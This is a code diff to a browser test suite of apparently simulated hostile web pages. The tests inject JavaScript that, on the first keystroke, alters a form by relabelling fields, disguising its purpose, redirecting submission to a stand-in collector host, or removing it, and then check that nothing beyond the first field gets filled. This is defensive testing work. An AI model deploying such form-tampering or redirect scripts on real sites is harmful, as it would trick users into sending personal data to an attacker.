@@ -3,11 +3,14 @@
 from tests.browser.hostile.attack import Attack
 from tests.browser.hostile.claims import only_filled
 from tests.browser.hostile.pages import EMAIL, REASON, objection
+from tests.browser.hostile.scene import Scene
+from tests.browser.people import ADA
 
 
 def at_first_input(then: str) -> str:
     """Runs inside the very event that filling the first field sends."""
-    return f"""const form = document.querySelector("form"), email = document.querySelector("[name=email]");
+    return f"""const form = document.querySelector("form"), {{ email, reason }} = form.elements;
+      window.kept = [reason, email];
       form.addEventListener("input", () => {{ {then} }}, {{ once: true }});"""
 
 
@@ -21,9 +24,15 @@ CHANGES = {
     "asks for something else": "email.labels[0].firstChild.data = 'Link (URL) to your profile '; email.type = 'text'; email.name = 'x'",
     "becomes another form": "document.querySelector('h1').textContent = 'Report a copyright infringement'",
     "sends it elsewhere": "form.action = 'https://collector.example/'",
-    "takes the form away": "const f = form.cloneNode(true); form.remove(); setTimeout(() => 0, 0)",
+    "takes the form away": "form.remove()",
     "writes a new document": "document.open(); document.write('<p>gone'); document.close()",
 }
+
+
+def nothing_after_the_first(scene: Scene) -> None:
+    """Read from the controls themselves: some are in no document any more."""
+    assert scene.runs("return kept.map(({ value }) => value)") == [ADA["reason"], ""]
+
 
 ATTACKS = [
     Attack(
@@ -35,11 +44,7 @@ ATTACKS = [
             style=".begun [name=email] { clip-path: circle(0) }",
             script=at_first_input(change),
         ),
-        (
-            only_filled(
-                *([] if "form.remove" in change or "document.open" in change else ["reason"])
-            ),
-        ),
+        (nothing_after_the_first,),
     )
     for name, change in CHANGES.items()
 ] + [
